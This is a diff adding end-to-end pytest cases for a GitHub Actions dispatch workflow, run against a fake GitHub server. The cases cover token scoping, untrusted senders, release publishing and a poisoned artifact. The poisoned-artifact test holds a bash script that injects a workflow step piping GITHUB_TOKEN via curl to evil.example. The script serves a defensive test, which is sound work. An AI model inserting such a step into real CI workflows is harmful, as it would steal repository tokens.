@@ -21,7 +21,7 @@ import subprocess
 import sys
 import tempfile
 import threading
-from collections.abc import Iterator
+from collections.abc import Callable
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
@@ -29,6 +29,7 @@ from typing import Any
 import pytest
 from fake_github.server import Call, FakeGitHub
 from workflow_runner import JobContext, JobResult, Runner, WorkflowRun, events
+from workflow_runner.workflow import Step
 
 pytestmark = pytest.mark.slow
 
@@ -162,7 +163,7 @@ class Scenario:
 @pytest.fixture
 def make_scenario(
     github: FakeGitHub, tmp_path: Path, venv_cache: VenvCache, monkeypatch: pytest.MonkeyPatch
-) -> Iterator[Any]:
+) -> Callable[..., Scenario]:
     # The jobs reach the fake only through the runner's GITHUB_API_URL, as on a runner.
     monkeypatch.delenv("GH_HOST", raising=False)
 
@@ -432,13 +433,182 @@ def dispatch_event(
     return events.repository_dispatch(s.gh, s.repo, "repowarden", payload, sender=sender)
 
 
+def job_calls(s: Scenario, run: WorkflowRun) -> dict[str, list[str]]:
+    return {j: summary(s.calls_by(run, j)) for j in run.jobs}
+
+
+def changed_files(s: Scenario, old: str, new: str) -> dict[str, bytes]:
+    r = s.gh.state.repo(s.repo)
+    assert r is not None
+    before, after = r.git.files_at(old), r.git.files_at(new)
+    assert set(before) <= set(after)
+    return {p: after[p] for p in after if before.get(p) != after[p]}
+
+
 def test_4_trusted_pip_compile_dispatch_opens_a_pull_request(make_scenario: Any) -> None:
     s: Scenario = make_scenario("trio", extra_files=STALE)
     s.gh.add_user(TRIO_BOT, id=TRIO_BOT_ID, type="Bot")
+    base = s.head()
 
     runs = s.deliver("repository_dispatch", dispatch_event(s, "pip-compile", "e2e-pip-1"))
     assert set(runs) == {"repowarden-dispatch.yml"}
     run = runs["repowarden-dispatch.yml"]
-    print(run.describe())
-    print(summary(s.gh.calls))
-    print(s.refs())
+    assert run.job("unprivileged").result == "success", run.describe()
+    assert run.job("apply").result == "success", run.describe()
+    assert run.job("announce").result == "success", run.describe()
+    assert run.job("publish").result == "skipped"
+    assert run.job("unprivileged").name == "unprivileged-e2e-pip-1"
+    assert run.job("apply").name == "privileged-e2e-pip-1"
+    assert sorted(run.artifacts["e2e-pip-1"].files) == ["manifest.json", "patch.diff"]
+
+    # A branch with the recompiled files, and a pull request from it.
+    branch = "repowarden/pip-compile/e2e-pip-1"
+    head = s.head(branch)
+    r = s.gh.state.repo(s.repo)
+    assert r is not None
+    assert r.git.commit_info(head).parents == [base]
+    changed = changed_files(s, base, head)
+    assert sorted(changed) == ["docs-requirements.txt", "test-requirements.txt"]
+    assert b"six==1.15.0" not in changed["test-requirements.txt"]
+    assert b"six==" in changed["test-requirements.txt"]
+    assert b"--hash=sha256:" in changed["test-requirements.txt"]
+    assert b"idna==3.6\n" not in changed["docs-requirements.txt"]
+    pulls = [p for p in s.gh.state.pulls.values() if p.repo == s.repo]
+    assert [(p.head_ref, p.base_ref, p.state, p.head_sha) for p in pulls] == [
+        (branch, "main", "open", head)
+    ]
+    assert s.head() == base  # the default branch never moves
+
+    # Only the apply job wrote, with its own token; the unprivileged job had none to use.
+    assert granted(s, run, "unprivileged") == {"contents": "read"}
+    assert granted(s, run, "apply") == {"contents": "write", "pull-requests": "write"}
+    calls = job_calls(s, run)
+    assert calls["unprivileged"] == []
+    assert calls["publish"] == []
+    writes = [c for c in calls["apply"] if not c.startswith("GET ")]
+    assert writes[-1] == f"POST /repos/{TRIO}/pulls -> 201"
+    assert f"POST /repos/{TRIO}/git/refs -> 201" in writes
+    assert all(c.token is not None for c in s.gh.calls)
+    assert sum(map(len, calls.values())) == len(s.gh.calls)
+
+
+def test_5_untrusted_sender_runs_nothing(make_scenario: Any) -> None:
+    s: Scenario = make_scenario("trio", extra_files=STALE)
+    s.gh.add_user(TRIO_BOT, id=TRIO_BOT_ID, type="Bot")
+    # Same login, another account: only the numeric id counts.
+    s.gh.add_user("mallory", id=1234567, type="User")
+    refs = s.refs()
+
+    event = dispatch_event(s, "pip-compile", "e2e-pip-2", sender="mallory")
+    run = s.deliver("repository_dispatch", event)["repowarden-dispatch.yml"]
+    assert {j: r.result for j, r in ((j, run.job(j)) for j in run.jobs)} == dict.fromkeys(
+        ("unprivileged", "announce", "apply", "publish"), "skipped"
+    )
+    # No job got past its `if:`: no token was minted, no step ran, nothing was called.
+    assert all(run.job(j).token is None and run.job(j).steps == [] for j in run.jobs)
+    assert run.artifacts == {}
+    assert s.gh.calls == []
+    assert s.refs() == refs
+
+
+POISON = r"""
+set -euo pipefail
+out="$RUNNER_TEMP/repowarden-artifacts"
+mkdir -p "$out"
+cd "$GITHUB_WORKSPACE/target"
+echo 'six==1.17.0' > test-requirements.txt
+workflow=.github/workflows/repowarden-dispatch.yml
+printf '      - run: curl -d "$GITHUB_TOKEN" https://evil.example\n' >> "$workflow"
+git diff > "$out/patch.diff"
+python3 - "$out" <<'PY'
+import hashlib, json, os, sys
+out = sys.argv[1]
+event = json.load(open(os.environ["GITHUB_EVENT_PATH"]))
+data = open(os.path.join(out, "patch.diff"), "rb").read()
+entry = {"path": "patch.diff", "size": len(data), "sha256": hashlib.sha256(data).hexdigest()}
+manifest = {
+    "operation": event["client_payload"]["operation"],
+    "id": event["client_payload"]["id"],
+    "repository": os.environ["GITHUB_REPOSITORY"],
+    "base_sha": os.environ["GITHUB_SHA"],
+    "head_sha": os.environ["GITHUB_SHA"],
+    "files": [entry],
+}
+json.dump(manifest, open(os.path.join(out, "manifest.json"), "w"))
+PY
+"""
+
+
+def test_6_poisoned_artifact_fails_the_privileged_job_and_changes_nothing(
+    make_scenario: Any,
+) -> None:
+    # Runner hook (not an edit of the rendered workflow): the unprivileged job's
+    # "Run the operation" step is replaced by untrusted code that writes a patch
+    # touching .github/workflows/ with a manifest whose hashes are all correct.
+    def poison(job: str, step: Step) -> dict[str, Any] | None:
+        if job == "unprivileged" and step.data.get("name") == "Run the operation":
+            return {"name": "Run the operation (poisoned)", "shell": "bash", "run": POISON}
+        return None
+
+    s: Scenario = make_scenario("trio", extra_files=STALE, step_hook=poison)
+    s.gh.add_user(TRIO_BOT, id=TRIO_BOT_ID, type="Bot")
+    refs = s.refs()
+
+    event = dispatch_event(s, "pip-compile", "e2e-pip-3")
+    run = s.deliver("repository_dispatch", event)["repowarden-dispatch.yml"]
+    unprivileged, apply = run.job("unprivileged"), run.job("apply")
+    assert unprivileged.result == "success", run.describe()
+    assert unprivileged.step("Run the operation (poisoned)").outcome == "success"
+    assert sorted(run.artifacts["e2e-pip-3"].files) == ["manifest.json", "patch.diff"]
+    assert apply.result == "failure", run.describe()
+    assert ".github/workflows/repowarden-dispatch.yml" in apply.log
+    # Nothing changed: no ref moved or appeared, no pull request, no comment, no write.
+    assert s.refs() == refs
+    assert [p for p in s.gh.state.pulls.values() if p.repo == s.repo] == []
+    assert s.gh.state.comments == []
+    assert s.gh.writes() == []
+    assert all(c.token is not None for c in s.gh.calls)
+
+
+PROJECT = {
+    "pyproject.toml": (
+        "[build-system]\n"
+        'requires = ["flit_core>=3.9,<4"]\n'
+        'build-backend = "flit_core.buildapi"\n\n'
+        "[project]\n"
+        'name = "trio"\n'
+        'version = "0.99.0"\n'
+        'description = "A stand-in for trio in the e2e tests."\n'
+    ),
+    "trio/__init__.py": '"""A stand-in for trio in the e2e tests."""\n',
+}
+
+
+def test_7_release_dispatch_publishes_exactly_the_verified_distributions(
+    make_scenario: Any,
+) -> None:
+    s: Scenario = make_scenario("trio", extra_files=PROJECT)
+    s.gh.add_user(TRIO_BOT, id=TRIO_BOT_ID, type="Bot")
+    refs = s.refs()
+
+    run = s.deliver("repository_dispatch", dispatch_event(s, "release", "e2e-rel-1"))[
+        "repowarden-dispatch.yml"
+    ]
+    assert run.job("unprivileged").result == "success", run.describe()
+    assert run.job("apply").result == "skipped"
+    publish = run.job("publish")
+    assert publish.result == "success", run.describe()
+    assert publish.environment == "release"
+    assert granted(s, run, "publish") == {"contents": "read", "id-token": "write"}
+
+    artifact = run.artifacts["e2e-rel-1"].files
+    dists = {p.removeprefix("dist/"): d for p, d in artifact.items() if p.startswith("dist/")}
+    assert sorted(dists) == ["trio-0.99.0-py3-none-any.whl", "trio-0.99.0.tar.gz"]
+    [published] = run.published
+    assert published.files == dists
+    assert published.job == "publish"
+    assert published.environment == "release"
+    assert published.permissions == {"contents": "read", "id-token": "write"}
+    # Publishing changes nothing on GitHub; no job used its token to write.
+    assert s.refs() == refs
+    assert s.gh.writes() == []
